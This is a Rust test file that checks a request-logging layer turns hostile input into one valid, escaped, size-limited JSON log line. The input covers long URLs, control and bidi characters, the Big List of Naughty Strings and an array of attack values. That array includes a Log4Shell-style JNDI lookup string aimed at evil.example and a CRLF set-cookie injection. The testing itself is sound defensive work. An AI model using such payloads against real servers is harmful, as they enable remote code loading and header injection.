//! Whatever a client sends, a request leaves one line, which is valid and no longer than need be.

use std::process::Command;

use axum::Router;
use offloop::request::Options;
use offloop_tower::RequestLayer;
use serde_json::Value;

use crate::client::Client;
use crate::server::serve;
use crate::{Test, log};

/// Far more than the record of a harmless request, far less than what hostile ones send.
const LINE_BYTES_MAX: usize = 8 * 1024;

fn app() -> Router {
    let options = Options::new().request_header("x-hostile");
    Router::new()
        .fallback(|| async { "survived" })
        .layer(RequestLayer::with(options))
}

/// The only line of the request with this id, as text.
async fn line_of(request_id: &str) -> String {
    let find = || {
        let wanted = format!("\"request_id\":\"{request_id}\"");
        let mut lines = log::lines(|line| line.contains(&wanted));
        assert!(lines.len() < 2, "{lines:?}");
        lines.pop()
    };
    log::wait_for(find).await
}

#[track_caller]
fn check(line: &str) -> Value {
    assert!(line.len() <= LINE_BYTES_MAX, "{} bytes", line.len());
    let is_harmless = |character: char| {
        !character.is_control()
            && !matches!(character, '\u{2028}' | '\u{2029}' | '\u{202a}'..='\u{202e}')
    };
    assert!(line.chars().all(is_harmless), "{line:?}");
    serde_json::from_str(line).unwrap_or_else(|error| panic!("{error}: {line}"))
}

#[tokio::test]
async fn a_url_of_60_kb_is_cut() -> Test {
    let mut client = Client::connect(serve(app()).await?).await?;
    let path = format!("/hostile/{}?{}", "p".repeat(60_000), "q".repeat(5_000));
    client
        .send("GET", &path, "x-request-id: hostile-long\r\n")
        .await?;
    assert_eq!(client.receive().await?.status, 200);
    let record = check(&line_of("hostile-long").await);
    let path = record["url.path"].as_str().unwrap_or_default();
    assert!(
        path.starts_with("/hostile/ppp") && path.len() < 1100,
        "{path}"
    );
    Ok(())
}

#[tokio::test]
async fn hostile_headers_and_paths_are_escaped_and_cut() -> Test {
    let server = serve(app()).await?;
    let cut = "x".repeat(16 * 1024);
    let hostile: [&[u8]; 12] = [
        b"\x1b[31mred\x1b[0m",
        b"\x9b31m",
        b"\xff\xfe\xfd",
        b"\xc3\x28 \xe2\x82",
        b"tab\tand \"quotes\" and \\",
        b"\",\"level\":\"ERROR\",\"x\":\"",
        "\u{202e}gnp.exe".as_bytes(),
        "line\u{2028}separator\u{2029}".as_bytes(),
        "\u{85}next line".as_bytes(),
        b"${jndi:ldap://evil.example/a}",
        b"%0d%0aset-cookie:%20x",
        cut.as_bytes(),
    ];
    for (number, value) in hostile.iter().enumerate() {
        let id = format!("hostile-header-{number}");
        let lines: [&[u8]; 9] = [
            b"x-request-id: ",
            id.as_bytes(),
            b"\r\nuser-agent: ",
            value,
            b"\r\nx-hostile: ",
            value,
            b"\r\nreferer: ",
            value,
            b"\r\n",
        ];
        let mut client = Client::connect(server).await?;
        client
            .send("GET", "/hostile/header", lines.concat())
            .await?;
        // What hyper itself refuses never becomes a request.
        if client.receive().await?.status == 200 {
            check(&line_of(&id).await);
        } else {
            assert!(
                value.iter().any(|byte| *byte < b' ' || *byte == 0x7f),
                "{number}"
            );
        }
    }
    Ok(())
}

/// Some are no HTTP, and more of them than a process warns of at once: other tests wait for such warnings.
/// So they go to a process of their own: this same program, which runs the test below.
#[test]
fn naughty_strings_leave_one_valid_line_each() -> Test {
    let child = Command::new(std::env::current_exe()?)
        .args(["hostile::child", "--exact", "--ignored"])
        .output()?;
    let said = String::from_utf8_lossy(&child.stdout);
    assert!(child.status.success(), "{said}");
    assert!(said.contains("1 passed"), "{said}");
    Ok(())
}

#[tokio::test]
#[ignore = "the child of the test above"]
async fn child() -> Test {
    let server = serve(app()).await?;
    let mut client = Client::connect(server).await?;
    let mut taken = Vec::new();
    for (number, naughty) in naughty_strings::BLNS.iter().enumerate() {
        let harmless = |character: &char| !character.is_control();
        let header: String = naughty.chars().filter(harmless).collect();
        let encoded: String = naughty.bytes().map(|byte| format!("%{byte:02x}")).collect();
        let raw: String = naughty.split([' ', '#', '?']).collect();
        for (kind, path) in [("encoded", encoded), ("raw", raw)] {
            let id = format!("naughty-{number}-{kind}");
            let ids = format!("x-request-id: {id}\r\nuser-agent: {header}\r\n");
            let headers = format!("{ids}x-hostile: {header}\r\n");
            client
                .send("GET", &format!("/hostile/{path}"), headers)
                .await?;
            match client.receive().await {
                Ok(answer) if answer.status == 200 => taken.push(id),
                // What hyper itself refuses never becomes a request.
                _ => client = Client::connect(server).await?,
            }
        }
    }
    assert!(naughty_strings::BLNS.len() < taken.len(), "{}", taken.len());
    // The records were there before the answers were.
    let lines = log::lines(|line| line.contains("naughty-"));
    let mut ids: Vec<_> = lines
        .iter()
        .map(|line| check(line)["request_id"].take())
        .collect();
    ids.sort_by_key(ToString::to_string);
    taken.sort();
    assert_eq!(ids, taken);
    Ok(())
}
